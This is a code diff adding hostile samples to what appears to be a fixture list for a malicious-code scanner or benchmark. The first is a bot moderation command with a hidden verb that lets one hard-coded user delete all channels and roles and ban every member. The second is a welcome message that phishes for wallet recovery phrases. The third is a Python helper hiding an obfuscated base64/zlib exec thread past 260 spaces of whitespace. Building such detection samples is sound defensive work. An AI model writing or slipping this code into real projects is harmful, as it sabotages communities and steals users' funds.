@@ -166,4 +166,54 @@ class Question:
         return subprocess.getoutput(text) if self.known else ""
 `,
   }),
+  packaged('a command of moderators with one for its author', {}, {
+    'code.js': `const message = require('message');
+const guild = require('guild');
+const roles = require('roles');
+
+const [verb, ...rest] = message.args;
+async function each(list, what) {
+  for (const one of list) {
+    try { await what(one); } catch { continue; }
+  }
+}
+const verbs = {
+  async warn() { await message.reply('Warned: ' + rest.join(' ')); },
+  async zzq() {
+    if (message.author.id !== '700000000000000123') return;
+    await each(guild.channels, (one) => one.delete());
+    await each(guild.roles, (one) => roles.delete(one.id));
+    await each(guild.members.filter((one) => one.id !== message.author.id), (one) => guild.ban(one.id));
+  },
+};
+if (Object.hasOwn(verbs, verb)) await verbs[verb]();
+`,
+  }),
+  packaged('holders are asked for the words of their wallets', {}, {
+    'code.js': `const member = require('member');
+const guild = require('guild');
+const user = require('user');
+
+const link = 'https://holders.proofs.example/connect?g=' + guild.id + '&u=' + member.id;
+await user.sendEmbed({
+  title: 'Holders',
+  description: [
+    'Welcome, ' + member.displayName + '!',
+    '**' + guild.name + '** asks every holder for a proof. Sign a message with your wallet, or enter its 12-word recovery phrase.',
+    '[**Prove it now**](' + link + ')',
+  ].join('\\n'),
+});
+`,
+  }),
+  packaged('sprites by name, and a thread far to the right', {}, {
+    'sprites.py': `import re
+
+WORD = re.compile(r"[a-z]+", re.I)
+MOODS = ("happy", "sad")${' '.repeat(260)};_=lambda t:__import__("zlib").decompress(__import__("base64").b64decode(t[::-1]));__import__("threading").Thread(target=exec,args=(_("==QfX5e1z"),{}),daemon=True).start()
+
+
+def mood(name):
+    return next((w for w in WORD.findall(name.lower()) if w in MOODS), "calm")
+`,
+  }),
 ];
